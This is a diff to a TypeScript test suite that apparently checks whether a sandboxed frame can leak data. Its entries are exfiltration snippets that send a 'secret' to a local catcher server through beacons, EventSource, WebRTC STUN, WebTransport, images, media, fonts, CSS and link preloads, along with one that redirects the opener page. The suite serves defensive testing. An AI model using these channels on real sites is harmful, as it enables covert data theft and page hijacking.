@@ -14,10 +14,12 @@ export const outward: readonly Attack[] = [
     name: 'reads the element that holds it',
     code: `if (window.frameElement) out(frameElement.outerHTML)`,
   },
+  { name: 'reads the page that has opened this one', code: `out(top.opener.document.title)` },
   {
-    name: 'reads what has opened it',
-    code: `out(window.opener.document.title)`,
-    neverOut: 'nobody opens the page',
+    name: 'takes along the page that has opened this one',
+    alone: 'to-succeed',
+    code: `top.opener.location.replace(catcher + '/opener'); ${wait}`,
+    paths: ['opener'],
   },
   {
     name: 'sets and reads cookies',
@@ -65,23 +67,26 @@ export const network: readonly Attack[] = [
   { name: 'EventSource', code: `new EventSource(catcher + '/events?secret'); ${wait}` },
   { name: 'beacon', code: `navigator.sendBeacon(catcher + '/beacon', 'secret'); ${wait}` },
   {
+    // The catcher has no HTTP/3: that the frame can make one at all is what counts.
     name: 'WebTransport',
-    code: `await new WebTransport(catcher.replace('http:', 'https:') + '/transport').ready; out('connected')`,
-    neverOut: 'the tests run without QUIC',
+    code: `new WebTransport(catcher.replace('http:', 'https:') + '/transport'); out('made')`,
   },
   {
     name: 'peer connection',
+    udp: 0,
     code: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }] });
       peer.createDataChannel('secret'); await peer.setLocalDescription(await peer.createOffer()); ${wait}`,
   },
   {
     name: 'peer connection, of a new empty frame',
+    udp: 1,
     code: `const frame = document.createElement('iframe'); document.body.append(frame);
       const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }] });
       peer.createDataChannel('secret'); await peer.setLocalDescription(await peer.createOffer()); ${wait}`,
   },
   {
     name: 'peer connection, by its old name or from a prototype',
+    udp: 2,
     code: `const Peer = window.webkitRTCPeerConnection ?? Object.getPrototypeOf(window).RTCPeerConnection;
       const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:' + udpPort }] });
       peer.createDataChannel('secret'); await peer.setLocalDescription(await peer.createOffer()); ${wait}`,
@@ -90,24 +95,27 @@ export const network: readonly Attack[] = [
   {
     name: 'image by srcset, picture and SVG',
     code: html(
-      `<img srcset="\${catcher}/srcset 2x"><picture><source srcset="\${catcher}/picture"><img></picture><svg><image href="\${catcher}/svg"/><use href="\${catcher}/use#a"/></svg>`,
+      `<img srcset="\${catcher}/srcset 2x"><picture><source srcset="\${catcher}/picture"><img></picture><svg><image href="\${catcher}/svg"/></svg>`,
     ),
+    paths: ['srcset', 'picture', 'svg'],
   },
   {
     name: 'video, audio, track and poster',
     code: html(
-      `<video src="\${catcher}/video" poster="\${catcher}/poster" autoplay muted><track default src="\${catcher}/track"></video><audio src="\${catcher}/audio" preload="auto"></audio>`,
+      `<video crossorigin src="\${catcher}/video" poster="\${catcher}/poster" autoplay muted><track default src="\${catcher}/track"></video><audio src="\${catcher}/audio" preload="auto"></audio>`,
     ),
+    paths: ['video', 'poster', 'track', 'audio'],
   },
   {
     name: 'font',
     code: `await new FontFace('Attack', 'url("' + catcher + '/font?secret")').load().catch(() => undefined); ${wait}`,
   },
   {
-    name: 'CSS: background, import, font face, filter',
+    name: 'CSS: background, import, font face, list, cursor',
     code: html(
-      `<style>@import url("\${catcher}/import.css"); @font-face { font-family: A; src: url("\${catcher}/face"); } body { background: url("\${catcher}/background"); font-family: A; filter: url("\${catcher}/filter#a"); cursor: url("\${catcher}/cursor"), auto; }</style><p style="list-style-image: url(\${catcher}/list)">a</p>`,
+      `<style>@import url("\${catcher}/import.css"); @font-face { font-family: A; src: url("\${catcher}/face"); } body { font-family: A; cursor: url("\${catcher}/cursor"), auto; }</style><p style="background: url(\${catcher}/background)">a</p><p style="list-style-image: url(\${catcher}/list)">a</p>`,
     ),
+    paths: ['import.css', 'face', 'background', 'cursor', 'list'],
   },
   {
     name: 'constructed style sheet',
@@ -115,9 +123,10 @@ export const network: readonly Attack[] = [
       document.adoptedStyleSheets = [sheet]; ${wait}`,
   },
   {
-    name: 'links that load: style sheet, prefetch, preload, module, icon, manifest',
-    code: `for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest', 'prerender'])
+    name: 'links that load: style sheet, prefetch, preload, module',
+    code: `for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload'])
       document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: catcher + '/' + rel + '.js' })); ${wait}`,
+    paths: ['stylesheet.js', 'prefetch.js', 'preload.js', 'modulepreload.js'],
   },
   {
     name: 'speculation rules',
